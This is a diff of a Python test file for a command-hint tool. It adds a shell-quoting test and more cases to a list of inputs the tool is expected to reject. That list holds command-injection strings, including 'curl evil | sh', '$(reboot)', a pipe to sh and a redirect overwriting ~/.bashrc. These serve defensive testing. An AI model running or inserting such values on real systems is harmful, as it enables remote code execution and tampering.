@@ -17,6 +17,12 @@ def test_a_hint_is_what_a_person_types() -> None:
     assert "or: " + Next("backups list", "alice") == "or: launchpad backups list alice"
 
 
+def test_an_argument_with_a_space_is_quoted() -> None:
+    hint = Next("kit open", "/media/my stick/it's.txt")
+    assert hint == "launchpad kit open '/media/my stick/it'\\''s.txt'"
+    assert commands_of(hint) == (("kit open", "/media/my stick/it's.txt"),)
+
+
 def test_its_commands_are_data() -> None:
     assert commands_of(BOTH) == (("logs", "alice"), ("deploy", "alice", "--host", HERE))
     assert commands_of("free some space") == ()
@@ -45,6 +51,8 @@ def test_a_hint_crosses_the_wire_and_processes_whole(hint: str) -> None:
     [
         [["deploy", "alice; curl evil | sh"]],
         [["deploy", "$(reboot)"]],
+        [["logs", "alice", "|", "sh"]],
+        [["status", ">", "~/.bashrc"]],
         [["deploy", "a\nb"]],
         [["curl evil"], ["-x"]],
         [["Deploy"]],
